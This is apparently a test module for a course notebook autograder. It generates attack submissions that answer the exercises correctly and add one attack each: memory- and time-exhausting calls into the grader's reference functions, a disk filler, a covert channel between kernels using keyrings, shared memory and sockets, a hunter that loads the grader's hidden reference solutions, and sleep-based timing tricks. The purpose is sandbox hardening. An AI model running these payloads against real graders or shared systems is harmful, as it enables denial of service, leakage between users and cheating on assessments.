"""The third round's attack submissions (issue 22), built from the course's own notebooks.

Each builder returns a real notebook: the released exercise with every answer filled in from
the instructor's solution, then one attack added -- on the grader's own process (provide()'s
stand-ins called with student-chosen arguments), on the disk, on state shared between
kernels, on the grader installed inside the Python the sandbox shows.  Run
``python tests/submissions/round3.py OUT_DIR`` to write them all out for inspection.
"""
from __future__ import annotations

import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
CH5 = "05_mrnn"
CH1 = "01_rnn_by_hand"


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def answered(assignment: str, root: Path = ROOT) -> nbformat.NotebookNode:
    """The released exercise with every answer cell filled in from the solution."""
    release = nbformat.read(root / "exercises" / assignment / f"{assignment}.ipynb", as_version=4)
    solution = nbformat.read(root / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)
    answers = {_gid(c): c.source for c in solution.cells
               if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    for cell in release.cells:
        if _gid(cell) in answers:
            cell.source = "\n".join(ln for ln in answers[_gid(cell)].splitlines()
                                    if ln.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
    return release


def _cell(nb, grade_id: str):
    (cell,) = [c for c in nb.cells if _gid(c) == grade_id]
    return cell


def append_to(nb, grade_id: str, code: str):
    cell = _cell(nb, grade_id)
    cell.source = cell.source + "\n\n" + code
    return nb


def insert_after(nb, grade_id: str, code: str):
    """A cell of the student's own (no nbgrader metadata) after ``grade_id``."""
    index = [i for i, c in enumerate(nb.cells) if _gid(c) == grade_id][0]
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return nb


# --- the grader's own process: provide()'s stand-ins on student-chosen arguments ----------

def _wrap_mrnn_step(attack: str) -> str:
    """Question 4's answer, honest, except that inside the grader's provide() (its
    stand-ins live in the module ``__rnns_probe__``) it first runs ``attack``."""
    return ("_honest_mrnn_step = mrnn_step\n\n\n"
            "def mrnn_step(x, h_prev, params, noise, tau):\n"
            "    if getattr(gumbel_softmax, '__module__', '') == '__rnns_probe__':\n"
            f"        {attack}\n"
            "    return _honest_mrnn_step(x, h_prev, params, noise, tau)\n")


def amplifier():
    """The issue's attack: 320 KB sent, a 20000 x 20000 result (3.2 GB) computed by the
    grader's reference gumbel_softmax."""
    return append_to(answered(CH5), "q4-mrnn-step", _wrap_mrnn_step(
        "gumbel_softmax(np.zeros((20000, 1)), np.zeros((1, 20000)), 1.0)"))


def time_bomb():
    """One stand-in call that keeps the reference busy for a minute with 24 MB of input:
    state_probabilities' reference loops over K = 1,000,000 encoders in Python."""
    return append_to(answered(CH5), "q4-mrnn-step", _wrap_mrnn_step(
        "state_probabilities(np.zeros((1, 1)), np.zeros((1, 1)), np.zeros((2, 1_000_000)), "
        "np.zeros(1_000_000))"))


def answer_bomb():
    """A stand-in whose answer would be 72 MB of float64 (96 MB of JSON): over the wire's
    limit, so the grader must refuse to send it rather than build and send it."""
    return append_to(answered(CH5), "q4-mrnn-step", _wrap_mrnn_step(
        "gumbel_softmax(np.zeros((3000, 1)), np.zeros((1, 3000)), 1.0)"))


# --- the disk ----------------------------------------------------------------------------

DISK_FILLER = r'''
import json, os, sys

def _fill(path, megabytes):
    """Write up to `megabytes` MiB to `path`; (MiB written, the error that stopped it)."""
    written, error = 0, ""
    try:
        with open(path, "wb") as f:
            for _ in range(megabytes):
                f.write(b"\0" * 2**20)
                written += 1
            f.flush()
            os.fsync(f.fileno())
    except OSError as exc:
        error = exc.strerror or type(exc).__name__
    try:
        os.unlink(path)
    except OSError:
        pass
    return [written, error]

_conn = [a for a in sys.argv if a.endswith(".json")]
_runtime = os.path.dirname(json.load(open(_conn[0]))["ip"]) if _conn else "/nonexistent"
_report = {"runtime": _fill(os.path.join(_runtime, "fill.bin"), 400),
           "connection_dir": _fill(os.path.join(os.path.dirname(_conn[0]) if _conn else "/x", "fill.bin"), 8),
           "root": _fill("/fill.bin", 8), "dev": _fill("/dev/fill.bin", 8),
           "dev_shm": _fill("/dev/shm/fill.bin", 400), "tmp": _fill("/tmp/fill.bin", 400),
           "work": _fill("fill.bin", 400), "kit": _fill("/opt/rnns-kit/fill.bin", 8),
           "prefix": _fill(os.path.join(sys.prefix, "fill.bin"), 8)}
print("DISK-FILLER " + json.dumps(_report), flush=True)
for _ in range(64):                  # 64 MiB on the kernel's own standard error
    try:
        os.write(2, b"x" * 2**20)
    except OSError:
        break
'''


def disk_filler(assignment: str = CH5):
    """Writes as much as it can everywhere a kernel might write (its runtime folder with the
    sockets, the connection file's folder, /, /dev, /dev/shm, /tmp, its working folder, the
    kit, the Python prefix) and floods its standard error; then answers correctly."""
    return insert_after(answered(assignment), "setup", DISK_FILLER)


# --- state shared between kernels --------------------------------------------------------

COVERT = r'''
import ctypes, errno, json, os, socket, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.shmat.restype = ctypes.c_void_p
KEY = 0x524E4E53                        # "RNNS": the System V key both sides agree on

def _err():
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))

def leave_traces(message=b"answer key: 42"):
    """Everything a kernel might leave for another: a key in the user keyring (readable by
    all), a System V shared memory segment, a /dev/shm file, files in /tmp, an abstract socket."""
    out = {"uid": os.getuid()}
    key = _libc.syscall(248, b"user", b"rnns-covert", message, len(message), ctypes.c_int(-4))
    out["add_key"] = key if key >= 0 else _err()
    if key >= 0:
        _libc.syscall(250, 5, ctypes.c_int(key), ctypes.c_uint(0x3f3f3f3f))   # KEYCTL_SETPERM: all
    seg = _libc.shmget(KEY, 4096, 0o1666)                                   # IPC_CREAT | 0666
    out["shmget"] = seg if seg >= 0 else _err()
    if seg >= 0:
        addr = _libc.shmat(seg, None, 0)
        ctypes.memmove(addr, message, len(message))
    for path in ("/dev/shm/rnns-covert", "/tmp/rnns-covert", "rnns-covert"):
        try:
            with open(path, "wb") as f:
                f.write(message)
            out[path] = "written"
        except OSError as exc:
            out[path] = exc.strerror
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind("\0rnns-covert")
        server.listen(1)
        out["abstract_socket"] = "listening"
    except OSError as exc:
        out["abstract_socket"] = exc.strerror
    return out, server

def find_traces():
    """What another kernel left, looked for everywhere it might be."""
    found = {"uid": os.getuid()}
    try:
        keys = open("/proc/keys").read()
        found["proc_keys"] = [line for line in keys.splitlines() if "rnns" in line]
    except OSError as exc:
        found["proc_keys"] = exc.strerror
    hit = _libc.syscall(250, 10, ctypes.c_int(-4), b"user", b"rnns-covert", 0)  # KEYCTL_SEARCH
    found["keyctl_search"] = hit if hit >= 0 else _err()
    seg = _libc.shmget(KEY, 0, 0)
    found["shmget"] = seg if seg >= 0 else _err()
    for path in ("/dev/shm/rnns-covert", "/tmp/rnns-covert", "rnns-covert"):
        found[path] = os.path.exists(path)
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        client.connect("\0rnns-covert")
        found["abstract_socket"] = "connected"
    except OSError as exc:
        found["abstract_socket"] = exc.strerror
    finally:
        client.close()
    return found

def leaked(found):
    return (bool(found["proc_keys"]) and isinstance(found["proc_keys"], list)) \
        or isinstance(found["keyctl_search"], int) or isinstance(found["shmget"], int) \
        or any(found[p] is True for p in ("/dev/shm/rnns-covert", "/tmp/rnns-covert", "rnns-covert")) \
        or found["abstract_socket"] == "connected"
'''


def covert_writer(hold: float = 8.0):
    """Leaves its traces everywhere and keeps them for ``hold`` seconds (a reader running at
    the same time on the other slot looks for them); then answers correctly."""
    return insert_after(answered(CH5), "setup", COVERT + (
        "_out, _server = leave_traces()\n"
        "print('COVERT-WRITER ' + json.dumps(_out))\n"
        f"time.sleep({hold})\n"))


def covert_reader(look: float = 8.0):
    """Looks for another kernel's traces for ``look`` seconds; then answers correctly."""
    return insert_after(answered(CH5), "setup", COVERT + (
        "_deadline = time.time() + " + repr(look) + "\n"
        "_found = find_traces()\n"
        "while not leaked(_found) and time.time() < _deadline:\n"
        "    time.sleep(0.5)\n"
        "    _found = find_traces()\n"
        "print('COVERT-READER ' + json.dumps(_found))\n"))


# --- the grader installed in the Python the sandbox shows --------------------------------

REFERENCE_HUNTER = r'''
import glob, importlib.metadata, importlib.util, json, os, site, sys, types

def _hunt():
    """Every trace of the grader's own package that this kernel can read, in every folder
    Python imports from."""
    found = []
    roots = {*site.getsitepackages(), *[p for p in sys.path if p and os.path.isdir(p)]}
    roots |= {os.path.join(p, "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}", "site-packages")
              for p in (sys.prefix, sys.base_prefix)}
    for root in sorted(roots):
        for pattern in ("grader/reference/*.py", "grader/grading/verdicts.py"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    if "def " in open(path).read():
                        found.append(path)
                except OSError:
                    pass
        for path in glob.glob(os.path.join(root, "*.dist-info/RECORD")) + \
                glob.glob(os.path.join(root, "__editable__*")):
            try:
                text = open(path).read()
            except OSError:
                continue
            if "grader/reference" in text or "'grader'" in text:
                found.append(path)
    try:
        dist = importlib.metadata.distribution("rnns-from-scratch-grader")
        for f in dist.files or []:
            if str(f).startswith("grader/reference/") and os.path.exists(dist.locate_file(f)):
                found.append(str(dist.locate_file(f)))
    except importlib.metadata.PackageNotFoundError:
        pass
    return sorted(set(found))

HUNTED = _hunt()
print("REFERENCE-HUNTER " + json.dumps(HUNTED))

def stolen(name):
    """The reference module `name`, loaded from a file found above (with its siblings)."""
    paths = [p for p in HUNTED if p.endswith(f"/grader/reference/{name}.py")]
    if not paths:
        raise NotImplementedError(f"no reference {name} to steal")
    folder = os.path.dirname(paths[0])
    package = types.ModuleType("stolen_reference")
    package.__path__ = [folder]
    sys.modules["stolen_reference"] = package
    sys.modules.setdefault("grader.reference", package)
    spec = importlib.util.spec_from_file_location(f"stolen_reference.{name}", paths[0])
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
'''


def reference_hunter_ch5():
    """Questions 2 and 6 answered only by the reference found in the Python installation."""
    nb = insert_after(answered(CH5), "setup", REFERENCE_HUNTER)
    _cell(nb, "q2-gumbel-softmax").source = (
        "def gumbel_softmax(logits, noise, tau):\n"
        "    return stolen('gumbel').gumbel_softmax(logits, noise, tau)\n")
    _cell(nb, "q6-entropy").source = (
        "def entropy(logits):\n"
        "    return stolen('gumbel').entropy(logits)\n")
    return nb


def reference_hunter_ch1():
    """The issue's attack: chapter 1's questions 3, 4 and 6 answered by loading
    grader/reference/rnn_by_hand.py from wherever the Python installation has it."""
    nb = insert_after(answered(CH1), "setup", REFERENCE_HUNTER)
    _cell(nb, "q3-rnn-cell").source = (
        "def rnn_cell(x_t, h_prev, W_state, W_input, b_cell):\n"
        "    return stolen('rnn_by_hand').rnn_step(x_t, h_prev, W_state, W_input, b_cell)\n")
    _cell(nb, "q4-rnn-forward").source = (
        "def rnn_forward(X, h0, W_state, W_input, b_cell, W_output, b_output):\n"
        "    out = stolen('rnn_by_hand').rnn_forward(X, h0, W_state=W_state, W_input=W_input,\n"
        "        b_cell=b_cell, W_output=W_output, b_output=b_output)\n"
        "    return out['states'], out['outputs']\n")
    _cell(nb, "q6-batch").source = (
        "def rnn_forward_batch(X, h0, W_state, W_input, b_cell, W_output, b_output):\n"
        "    out = stolen('rnn_by_hand').rnn_forward_batch(X, h0, W_state=W_state, W_input=W_input,\n"
        "        b_cell=b_cell, W_output=W_output, b_output=b_output)\n"
        "    return out['states'], out['outputs']\n")
    return nb


def slow_start(assignment: str, seconds: float):
    """Correct, but its first cell sleeps: a batch is certainly busy with it for a while."""
    return insert_after(answered(assignment), "setup", f"import time\ntime.sleep({seconds})\n")


def slow_hidden_call(seconds: float):
    """Correct, but question 1's function sleeps the first time the grader calls it (not
    when the visible test does): its hidden tests' process is alive for a while."""
    return append_to(answered(CH1), "q1-dot-shape", (
        "_honest_shape = dot_result_shape\n_slept = []\n\n\n"
        "def dot_result_shape(a_shape, b_shape):\n"
        "    import sys, time\n"
        "    if not _slept and sys._getframe(1).f_globals.get('__name__') == '__rnns_probe__':\n"
        "        _slept.append(1)\n"
        f"        time.sleep({seconds})\n"
        "    return _honest_shape(a_shape, b_shape)\n"))


BUILDERS = {"amplifier": amplifier, "time-bomb": time_bomb, "answer-bomb": answer_bomb,
            "disk-filler": disk_filler, "covert-a-writer": covert_writer,
            "covert-b-reader": covert_reader, "reference-hunter": reference_hunter_ch5}


if __name__ == "__main__":
    out = Path(sys.argv[1])
    for name, build in BUILDERS.items():
        (out / name).mkdir(parents=True, exist_ok=True)
        nbformat.write(build(), out / name / f"{CH5}.ipynb")
    print(f"written: {', '.join(BUILDERS)} into {out}")
